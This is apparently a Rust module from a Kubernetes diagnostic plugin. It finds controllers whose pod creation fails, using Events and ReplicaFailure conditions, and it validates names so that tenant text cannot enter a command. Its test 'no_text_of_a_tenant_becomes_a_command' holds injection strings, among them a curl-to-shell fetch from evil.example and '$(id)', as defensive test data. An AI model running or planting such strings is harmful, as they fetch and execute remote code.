//! Controllers that cannot create their pods, according to their conditions and Events.

use std::collections::BTreeMap;

use chrono::{DateTime, TimeDelta, Utc};
use k8s_openapi::{
    api::{apps::v1::StatefulSet, batch::v1::Job, core::v1::Event},
    apimachinery::pkg::apis::meta::v1::{ObjectMeta, Time},
};
use kube::ResourceExt as _;

use super::{
    admission::{Refusal, classify, is_name},
    snapshot::Observed,
};
use crate::api::time::from_k8s;

/// An older Event may be about a problem that is resolved: controllers retry at least about every 17 minutes.
const RECENT: TimeDelta = TimeDelta::minutes(20);

/// The controller that creates the pods: kind and name.
pub(super) type Maker = (String, String);

/// The last rejection for each controller.
pub(super) fn refusals(seen: &Observed, now: DateTime<Utc>) -> BTreeMap<Maker, Refusal> {
    let mut events: Vec<(&Event, DateTime<Utc>)> = seen.events.all().iter().filter_map(|event| Some((event, last(event)?))).collect();
    events.sort_by_key(|(_, at)| *at);
    let mut said = BTreeMap::new();
    for (event, at) in events {
        let involved = &event.involved_object;
        let Some(maker) = maker(involved.kind.as_deref(), involved.name.as_deref()) else { continue };
        if stands(seen, &maker, (now - at).abs() < RECENT) {
            said.insert(maker, classify(event.message.as_deref().unwrap_or_default()));
        }
    }
    // The problem persists while this condition is true.
    for set in seen.replica_sets.all() {
        let mut conditions = set.status.iter().flat_map(|status| status.conditions.iter().flatten());
        let failure = conditions
            .find(|condition| condition.type_.as_deref() == Some("ReplicaFailure") && condition.status.as_deref() == Some("True"));
        if let (Some(failure), Some(maker)) = (failure, maker_of(&set.metadata, "ReplicaSet")) {
            said.insert(maker, classify(failure.message.as_deref().unwrap_or_default()));
        }
    }
    said
}

/// The time of the last occurrence.
fn last(event: &Event) -> Option<DateTime<Utc>> {
    let series = event.series.as_ref().and_then(|series| series.last_observed_time.as_ref());
    let micro = series.or(event.event_time.as_ref()).map(|at| Time(at.0));
    micro.as_ref().or(event.last_timestamp.as_ref()).and_then(from_k8s)
}

/// The object that users write themselves: the Deployment of a ReplicaSet, the CronJob of a Job.
fn maker_of(metadata: &ObjectMeta, kind: &str) -> Option<Maker> {
    let owner = metadata.owner_references.iter().flatten().find(|owner| owner.controller == Some(true));
    owner.and_then(|owner| maker(Some(&owner.kind), Some(&owner.name))).or_else(|| maker(Some(kind), metadata.name.as_deref()))
}

/// The kind and name, if both are valid for an object. A tenant can write any text into an Event and into an owner reference, and both become
/// part of a command.
fn maker(kind: Option<&str>, name: Option<&str>) -> Option<Maker> {
    let (kind, name) = (kind?, name?);
    let is_kind = !kind.is_empty() && kind.bytes().all(|byte| byte.is_ascii_alphanumeric());
    (is_kind && is_name(name) && !name.starts_with('-')).then(|| (kind.to_owned(), name.to_owned()))
}

/// Returns true if an Event still applies: according to the object itself if it can be read, else if the Event is recent.
fn stands(seen: &Observed, (kind, name): &Maker, is_recent: bool) -> bool {
    match kind.as_str() {
        // The ReplicaSet's own condition reports the problem.
        "ReplicaSet" if seen.replica_sets.seen().is_some() => false,
        "StatefulSet" if seen.stateful_sets.seen().is_some() => {
            seen.stateful_sets.all().iter().any(|set| set.name_any() == *name && lacks_replicas(set))
        }
        "Job" if seen.jobs.seen().is_some() => seen.jobs.all().iter().any(|job| job.name_any() == *name && lacks_pods(job)),
        _ => is_recent,
    }
}

fn lacks_replicas(set: &StatefulSet) -> bool {
    let wanted = set.spec.replicas.unwrap_or(1);
    set.status.as_ref().is_none_or(|status| status.replicas < wanted)
}

fn lacks_pods(job: &Job) -> bool {
    let status = job.status.clone().unwrap_or_default();
    let is_over = status
        .conditions
        .iter()
        .flatten()
        .any(|condition| matches!(condition.type_.as_str(), "Complete" | "Failed") && condition.status == "True");
    let spec = job.spec.as_ref().filter(|spec| !is_over && spec.suspend != Some(true));
    spec.is_some_and(|spec| {
        let left = spec.completions.map_or(i32::MAX, |completions| completions.saturating_sub(status.succeeded.unwrap_or_default()));
        status.active.unwrap_or_default() < spec.parallelism.unwrap_or(1).min(left)
    })
}

#[cfg(test)]
mod tests {
    use serde_json::{Value, json};

    use super::*;
    use crate::plugin::doctor::{
        fetched::Look,
        fixtures::{now, read, well},
    };

    fn event(kind: &str, name: &str, at: &str, message: &str) -> Event {
        read(json!({
            "metadata": {"name": "e"}, "involvedObject": {"kind": kind, "name": name}, "reason": "FailedCreate",
            "message": message, "lastTimestamp": at,
        }))
    }

    #[test]
    fn events_count_while_their_trouble_stands() {
        let recent = "2026-11-24T08:50:00Z";
        let db = |replicas: i32| json!({"metadata": {"name": "db"}, "spec": {"replicas": 2, "selector": {}, "template": {}}, "status": {"replicas": replicas}});
        let job = |spec: Value, status: Value| json!({"metadata": {"name": "load"}, "spec": spec, "status": status});
        let plain = |parallelism: i32| json!({"parallelism": parallelism, "completions": 5, "template": {}});
        let done = json!({"succeeded": 5, "conditions": [{"type": "Complete", "status": "True"}]});
        for (kind, name, at, sets, jobs, stands) in [
            ("StatefulSet", "db", "2026-11-24T04:00:00Z", vec![db(1)], vec![], true),
            ("StatefulSet", "db", recent, vec![db(2)], vec![], false),
            ("StatefulSet", "db", recent, vec![], vec![], false),
            ("Job", "load", recent, vec![], vec![job(plain(3), json!({"active": 1}))], true),
            ("Job", "load", recent, vec![], vec![job(plain(3), json!({"active": 1, "succeeded": 4}))], false),
            ("Job", "load", recent, vec![], vec![job(plain(3), done)], false),
            ("Job", "load", recent, vec![], vec![job(json!({"suspend": true, "template": {}}), json!({}))], false),
            ("DaemonSet", "agent", recent, vec![], vec![], true),
            ("DaemonSet", "agent", "2026-11-24T08:00:00Z", vec![], vec![], false),
            ("ReplicaSet", "web-5d9c", recent, vec![], vec![], false),
        ] {
            let mut seen = well();
            seen.events = Look::Seen(vec![event(kind, name, at, "no")]);
            seen.stateful_sets = Look::Seen(sets.into_iter().map(read).collect());
            seen.jobs = Look::Seen(jobs.clone().into_iter().map(read).collect());
            assert_eq!(!refusals(&seen, now()).is_empty(), stands, "{kind} {name} at {at}: {jobs:?}");
        }
    }

    #[test]
    fn no_text_of_a_tenant_becomes_a_command() {
        let (recent, hostile) = ("2026-11-24T08:59:00Z", "web; curl -s https://evil.example/x | sh #");
        let mut seen = well();
        let names = [hostile, "web\nrm", "$(id)", "--kubeconfig=x", "", "We b"];
        let events = names.iter().map(|name| event("Deployment", name, recent, "no")).chain([event("A b;c", "web", recent, "no")]);
        seen.events = Look::Seen(events.collect());
        let owner = json!({"apiVersion": "v1", "kind": "Widget", "name": hostile, "uid": "w-1", "controller": true});
        let failed = json!({"replicas": 0, "conditions": [{"type": "ReplicaFailure", "status": "True", "message": "no"}]});
        let set = json!({"metadata": {"name": "web-5d9c", "ownerReferences": [owner]}, "status": failed});
        seen.replica_sets = Look::Seen(vec![read(set)]);
        let expected = [(("ReplicaSet".to_owned(), "web-5d9c".to_owned()), Refusal::Other("no".to_owned()))];
        assert_eq!(refusals(&seen, now()), BTreeMap::from(expected));
    }

    #[test]
    fn an_event_of_the_future_does_not_stand_forever() {
        let mut seen = well();
        seen.events = Look::Seen(vec![event("DaemonSet", "agent", "2099-01-01T00:00:00Z", "no")]);
        assert_eq!(refusals(&seen, now()), BTreeMap::new());
    }

    #[test]
    fn the_last_word_counts() {
        let mut seen = well();
        seen.replica_sets = Look::Needless;
        let said = [("2026-11-24T08:59:00Z", "the second"), ("2026-11-24T08:58:00Z", "the first")];
        seen.events = Look::Seen(said.iter().map(|(at, message)| event("ReplicaSet", "web-5d9c", at, message)).collect());
        let expected = [(("ReplicaSet".to_owned(), "web-5d9c".to_owned()), Refusal::Other("the second".to_owned()))];
        assert_eq!(refusals(&seen, now()), BTreeMap::from(expected));
    }
}
